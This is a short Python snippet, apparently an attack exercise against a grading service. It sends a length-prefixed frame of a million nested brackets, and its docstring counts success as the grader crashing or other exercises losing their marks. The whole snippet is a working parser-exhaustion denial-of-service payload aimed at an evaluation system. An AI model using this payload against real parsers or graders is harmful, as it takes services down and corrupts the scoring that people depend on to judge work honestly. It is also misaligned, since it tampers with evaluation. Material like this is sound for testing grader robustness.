"""Sends a frame nested a million deep.

Success: the grader stops, or other exercises lose their marks.
Runs: alone, always
"""

header = b"[" * 1_000_000 + b"]" * 1_000_000
send(struct.pack(">IQ", len(header), 0) + header)
